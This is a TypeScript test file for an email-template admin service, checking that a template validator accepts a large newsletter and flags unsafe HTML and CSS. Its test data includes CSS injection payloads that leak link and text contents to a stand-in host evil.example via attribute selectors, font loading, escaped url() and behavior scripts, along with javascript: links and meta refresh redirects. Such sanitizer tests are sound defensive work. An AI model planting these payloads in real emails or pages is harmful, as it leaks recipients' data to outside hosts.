import { previewTemplate } from '@gatehouse/contract/admin/templates/preview.ts'
import { emailTemplates } from '@gatehouse/contract/admin/templates/templates.ts'
import { problemInWords } from '@gatehouse/contract/template-problems.ts'
import { describe, expect, test } from 'vitest'
import { useAdministrator } from '../../test/console.ts'
import { NEWSLETTER } from '../../test/newsletter.ts'
import { useTestServer } from '../../test/server.ts'
import { templateProblems } from './template-problems.ts'

const server = useTestServer()
const admin = useAdministrator(server)

const FORM = { Application: 'All', Client: 'All', TemplateId: 'N-1', TemplateName: 'newsletter', Status: 'ACTIVE' }
const REFRESH = '<meta http-equiv="refresh" content="0;url=https://x.example/">'
const problemsOf = async (body: string) =>
  (await templateProblems({ channel: 'email', name: 'newsletter', subject: 'News', body })).map((problem) => [
    problemInWords(problem).replace('Not allowed in a message: ', ''),
    body.slice(problem.from, problem.to),
  ])

test('a newsletter of a design program is accepted and stored byte for byte', async () => {
  expect(NEWSLETTER.length).toBeGreaterThan(12_000)
  const { status, msg, data } = await admin.call(emailTemplates.create, {
    ...FORM,
    Subject: 'News',
    Template: NEWSLETTER,
  })
  expect([status, msg]).toEqual([200, 'Email Template Created'])
  expect(data.Template).toBe(NEWSLETTER)
  const preview = await admin.call(previewTemplate, { channel: 'email', name: 'newsletter', body: NEWSLETTER })
  expect(preview.data.problems).toEqual([])
  expect(preview.data.rendered?.html).toContain('@media only screen and (max-width: 600px)')
  expect(preview.data.rendered?.text).toContain('Towing within the hour')
})

test('everything that is not allowed is listed at once, each with what must be removed', async () => {
  const wrong = NEWSLETTER.replace(
    '<style type="text/css">',
    `<link rel="stylesheet" href="https://fonts.example/css">\n  ${REFRESH}\n  <style type="text/css">\n    @import url("https://fonts.example/css");\n    .bar { position: fixed; color: red }`,
  )
    .replace('<center>', '<center onclick="go()">')
    .replace('padding:24px 0;', 'padding:24px 0; background:url(http://x.example/a.png);')
    .replace('href="{{ portal }}"', 'href="javascript:go()"')
    .replace('</body>', '<script>if (1 < 2) go()</script><form action="/x">y</form></body>')
  expect(await problemsOf(wrong)).toEqual([
    ['<link>', '<link rel="stylesheet" href="https://fonts.example/css">'],
    [REFRESH, REFRESH],
    ['@import url("https://fonts.example/css") in a style sheet', '@import url("https://fonts.example/css");'],
    ['position: fixed in a style sheet', 'position: fixed;'],
    ['onclick="go()" on <center>', ' onclick="go()"'],
    ['background:url(http://x.example/a.png) in the style of <td>', 'background:url(http://x.example/a.png);'],
    ['href="javascript:go()" on <a>', ' href="javascript:go()"'],
    ['<script>', '<script>if (1 < 2) go()</script>'],
    ['<form>', '<form action="/x">'],
    ['<form>', '</form>'],
  ])
})

describe('a style sheet must not', () => {
  test.each([
    ['test the letters of a link', 'a[href^="https://portal.example.com/a"]{background:url(https://evil.example/a)}'],
    ['test a text', '[title^="4"]{background:url(https://evil.example/4)}'],
    ['load a font: it reveals which letters are shown', '@font-face{font-family:x;src:url(https://evil.example/4)}'],
    ['load a sheet', '@import "https://evil.example/x.css";'],
    ['load a picture over http', 'p{background:url(http://evil.example/a.png)}'],
    ['load a picture from the page', 'p{background:url(/a.png)}'],
    ['load a file that is not a picture', 'p{cursor:url(https://evil.example/a.cur)}'],
    ['load by another function', 'p{background:image-set("https://evil.example/a.png" 1x)}'],
    ['escape a letter', 'p{background:u\\72l(https://evil.example/a.png)}'],
    ['overlay the page', 'p{position:absolute}'],
    ['run a script', 'p{behavior:url(https://evil.example/a.htc)}'],
    ['leave a brace open', '@media screen{p{color:red}'],
    ['leave a text open', "p{font-family:'x;color:red}"],
    ['leave a comment open', 'p{color:red}/* x'],
  ])('%s', async (_what, css) => {
    expect(await problemsOf(`<style>${css}</style><p>x</p>`)).not.toEqual([])
  })

  test('contain a value of a template', async () => {
    const [problem] = await problemsOf('<style>p{color:{{ brand }}}</style><p>x</p>')
    expect(problem?.[0]).toContain('Inside an HTML tag, use a variable alone')
  })
})
